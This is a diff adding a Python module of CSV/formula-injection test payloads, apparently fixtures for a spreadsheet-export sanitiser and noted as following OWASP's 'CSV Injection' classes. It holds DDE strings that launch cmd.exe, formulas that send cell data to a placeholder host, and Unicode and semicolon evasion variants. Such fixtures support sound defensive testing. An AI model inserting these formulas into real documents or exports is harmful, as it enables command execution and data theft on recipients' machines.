@@ -1,0 +1,57 @@
+"""Texts that spreadsheets run, each in the way that somebody might get it into a public document.
+
+The kinds are those of OWASP's "CSV Injection"; Danish spreadsheets part cells at semicolons, whatever stands in quotes.
+"""
+
+from __future__ import annotations
+
+PAYLOADS = (
+    "=1+1",
+    "=SUM(A1:A9)",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://eksempel.invalid?x="&A1;"Klik her")',
+    '=IMPORTXML(CONCAT("http://eksempel.invalid/?v=";A1);"//a")',
+    '=WEBSERVICE("http://eksempel.invalid")',
+    '=IMAGE("http://eksempel.invalid/a.png")',
+    '=DDE("cmd";"/C calc";"x")',
+    "=rundll32|'URL.dll,OpenURL http://eksempel.invalid'!A",
+    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
+    "={1;2}",
+    "==1",
+    "=",
+    "+1+1",
+    "+cmd|' /C calc'!A0",
+    "+45 12 34 56 78",
+    "+",
+    "-1+1",
+    "-2+3+cmd|' /C calc'!D2",
+    "-",
+    "@SUM(1;2)",
+    "@navn",
+    "@",
+    "\t=1+1",
+    "\ttekst",
+    "\r=1+1",
+    "\r\n=1+1",
+    "\n=1+1",
+    " =1+1",
+    "\u00a0=1+1",
+    "\u200b=1+1",
+    "\ufeff=1+1",
+    "\u00ad\u2060=1+1",
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(1)",
+    "uskyldig;=1+1",
+    "uskyldig;+1+1;-cmd|' /C calc'!A0",
+    "uskyldig; @SUM(1)",
+    "uskyldig\t=1+1",
+    "uskyldig\n=1+1",
+    'uskyldig";=1+1;"',
+    'uskyldig;"=1+1',
+    "uskyldig;\u200b=1+1",
+    "uskyldig;＝1+1",
+    '"=1+1"\n=1+1',
+)
+"""More than forty."""
